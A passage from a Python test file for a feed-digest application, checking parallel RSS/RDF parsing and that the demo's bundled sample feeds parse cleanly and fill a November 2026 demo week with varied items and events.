    body = (FEEDS / "rss1-rdf.rdf").read_bytes()
    with ParseWorkers(cpu_seconds=0) as workers:
        assert workers.parse(body, FEED, SERIES) == parse_feed(body, FEED, SERIES)


# --- the demo's bundled sample data ---------------------------------------------------------------
def test_demo_samples_parse_cleanly_and_fill_the_demo_week():
    from zoneinfo import ZoneInfo

    from digest.config import load_settings

    settings = load_settings(Path(__file__).resolve().parent.parent / "digest" / "data" / "samples" / "digest.toml")
    tz = ZoneInfo(settings.site.timezone)
    start, end = datetime(2026, 11, 16, tzinfo=tz), datetime(2026, 11, 23, tzinfo=tz)
    items = []
    for feed in settings.feeds:
        result = parse_feed(settings.resolve_path(feed.url).read_bytes(), feed, settings.series)
        assert (result.error, result.warnings) == (None, []), feed.name
        items.extend(result.items)
    new = [i for i in items if start <= i.effective_published < end]
    assert 12 <= len(new) <= 20
    assert len(items) > len(new) + 10  # older items for related content
    assert {s for i in new for s in i.series} == {s.id for s in settings.series}
    assert {i.language for i in new if i.kind is ItemKind.MEDIA} == {"en", "de", "fr"}
    upcoming = [i for i in items if i.event and i.event.start and end <= i.event.start < end + timedelta(days=60)]
    assert len(upcoming) >= 5 and any(i.event.hybrid for i in upcoming) and any(i.event.online for i in upcoming)
    assert all(i.url.startswith("https://") for i in items)
